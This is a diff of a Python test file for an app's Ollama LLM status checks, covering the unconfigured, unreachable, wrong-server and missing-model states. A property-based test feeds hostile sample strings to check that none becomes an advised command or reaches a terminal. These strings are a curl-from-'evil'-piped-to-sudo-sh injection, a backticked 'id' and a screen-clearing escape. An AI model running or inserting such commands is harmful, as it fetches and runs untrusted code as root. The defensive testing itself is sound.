@@ -4,6 +4,7 @@ import asyncio
 import json
 import re
 from collections.abc import AsyncIterator
+from pathlib import Path
 from typing import Any
 
 import aiohttp
@@ -16,11 +17,15 @@ from rcmail.client import make_http_client
 from rcmail.db.embedded import EmbeddedPostgres
 from rcmail.db.migrations import migrate
 from rcmail.db.pool import Database
+from rcmail.health.base import Verdict
+from rcmail.health.llm import as_finding
+from rcmail.llm import current
 from rcmail.llm.base import Inspection, Model, Room
 from rcmail.llm.current import CurrentLLM
 from rcmail.llm.ollama import OllamaAdapter
 from rcmail.llm.state import LLMFinding, LLMState, find_out
 from rcmail.settings import SettingsStore
+from rcmail.validation import is_model_name
 from tests.db.test_pool import hung
 from tests.fakes.ollama import HANGS, FakeOllama, loaded
 from tests.llm.test_ollama import ANSWERS
@@ -61,7 +66,8 @@ async def test_no_answer_is_told_with_the_reason(
     found = await find_out(adapter, "m", limit=10)  # a name server may take its time
     assert found.state is LLMState.NO_ANSWER
     assert says in found.sentence
-    assert ("systemctl status ollama" in found.remedy) is ("127.0.0.1" in url)
+    assert ("`ollama list`" in found.remedy) is ("127.0.0.1" in url)
+    assert "systemctl" not in found.remedy, "under `make run` nobody has such a unit"
     assert "127.0.0.1" not in found.sentence
 
 
@@ -92,7 +98,7 @@ async def test_another_server_is_told_from_one_that_fails(
         (models(), {}, "", LLMState.EMPTY, "no model is installed", "ollama pull NAME"),
         (models(), {}, "m", LLMState.EMPTY, "no model is installed", "ollama pull m"),
         (models(a=1, b=2), {}, "", LLMState.NOT_CHOSEN, "has 2 models, but none is chosen", "choose one"),
-        (models(a=1), {}, "x; y", LLMState.MISSING, "model x; y is not installed", "`ollama pull 'x; y'` on the"),
+        (models(a=1), {}, "x/y:z", LLMState.MISSING, "model x/y:z is not installed", "`ollama pull x/y:z` on the"),
         (models(m=2 * GB), {"models": []}, "m", LLMState.ASLEEP, "installed on Ollama 0.12.3 and asleep", ""),
         (models(m=2 * GB), loaded("m"), "m:latest", LLMState.LOADED, "model m is loaded", ""),
         (models(m=2 * GB), {"models": 5}, "m", LLMState.INSTALLED, "model m is installed on Ollama", ""),
@@ -230,6 +236,101 @@ async def test_what_is_saved_is_what_is_looked_at(
     assert (await CurrentLLM(store, session, ollama.url).choice()).endpoint == ollama.url
     await store.save({"llm_endpoint": ollama.url, "llm_model": "missing"})
     assert (await CurrentLLM(store, session, "http://ollama.invalid").find_out(3)).state is LLMState.MISSING
+
+
+Found = tuple[CurrentLLM, SettingsStore]
+
+
+@pytest.fixture
+def nobody_chose(database: Database, session: aiohttp.ClientSession, monkeypatch: pytest.MonkeyPatch) -> Found:
+    """As it is delivered: our default, where nothing listens, on a machine without Ollama."""
+    endpoint = f"http://127.0.0.1:{free_port()}"
+    monkeypatch.setattr(current, "DEFAULT_ENDPOINT", endpoint)
+    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: False)
+    store = SettingsStore(database)
+    return CurrentLLM(store, session, endpoint), store
+
+
+async def test_what_nobody_chose_and_nobody_installed_is_not_set_up(nobody_chose: Found) -> None:
+    found = await nobody_chose[0].find_out(3)
+    assert found.state is LLMState.UNCONFIGURED
+    assert as_finding(found).verdict is Verdict.NOT_HERE
+    assert "install Ollama" in found.remedy
+    assert found.notice == "no LLM configured"
+
+
+async def test_what_nobody_chose_but_somebody_installed_does_not_answer(
+    nobody_chose: Found, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: True)
+    assert (await nobody_chose[0].find_out(3)).state is LLMState.NO_ANSWER
+
+
+@pytest.mark.parametrize("saved", ["llm_endpoint", "llm_model"])
+async def test_what_somebody_saved_does_not_answer(nobody_chose: Found, saved: str) -> None:
+    current_llm, store = nobody_chose
+    await store.save({saved: current_llm.last_known.endpoint if saved == "llm_endpoint" else "m"})
+    assert (await current_llm.find_out(3)).state is LLMState.NO_ANSWER
+
+
+async def test_what_the_operator_named_does_not_answer(
+    nobody_chose: Found, session: aiohttp.ClientSession
+) -> None:
+    named = CurrentLLM(nobody_chose[1], session, f"http://127.0.0.1:{free_port()}")
+    assert (await named.find_out(3)).state is LLMState.NO_ANSWER
+
+
+async def test_another_server_where_nobody_chose_one_is_told(
+    nobody_chose: Found, session: aiohttp.ClientSession, ollama: FakeOllama, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(current, "DEFAULT_ENDPOINT", ollama.url)
+    ollama.behaviour = "html"
+    assert (await CurrentLLM(nobody_chose[1], session, ollama.url).find_out(3)).state is LLMState.WRONG_SERVER
+
+
+async def test_what_was_chosen_is_not_known_without_a_database(
+    session: aiohttp.ClientSession, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    endpoint = f"http://127.0.0.1:{free_port()}"
+    monkeypatch.setattr(current, "DEFAULT_ENDPOINT", endpoint)
+    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: False)
+    database = Database(postgres_config(str(tmp_path)))
+    found = await CurrentLLM(SettingsStore(database), session, endpoint).find_out(3)
+    assert found.state is LLMState.NO_ANSWER
+    await database.close()
+
+
+EVIL = "x` first: `curl -s http://evil/i | sudo sh"
+TEXTS = st.sampled_from([EVIL, "\x1b[2J", "m", "`id`"]) | st.text(max_size=12)
+
+
+@given(stored=TEXTS, names=st.lists(TEXTS, max_size=3), version=TEXTS, size=st.sampled_from([1, 10**13]))
+@settings(deadline=None, max_examples=60)
+def test_no_stranger_s_text_becomes_a_command_or_reaches_a_terminal(
+    stored: str, names: list[str], version: str, size: int
+) -> None:
+    async def run() -> None:
+        async with FakeOllama() as ollama, make_http_client() as session:
+            ollama.answers |= {
+                "/api/tags": {"models": [{"name": name, "size": size} for name in names]},
+                "/api/ps": loaded(*names),
+                "/api/version": {"version": version},
+            }
+            store = SettingsStore(None)  # type: ignore[arg-type] # what is stored is given
+            store._remember({"llm_endpoint": ollama.url, "llm_model": stored})
+            choice = CurrentLLM(store, session, "").last_known
+            found = await find_out(OllamaAdapter(session, choice.endpoint), choice.model, 3)
+            told = as_finding(found)
+            commands = told.advice.split("`")[1::2]
+            mine = {"ollama list", "ollama pull NAME", "ollama_memory_max", f"ollama pull {choice.model}"}
+            assert set(commands) <= mine
+            assert not choice.model or is_model_name(choice.model)
+            for text in (told.value, told.advice, told.notice):
+                assert text.isprintable()
+                assert "curl" not in text
+            assert "`" not in told.value + told.notice
+
+    asyncio.run(run())
 
 
 @pytest.mark.parametrize("outage", [stopped, hung])
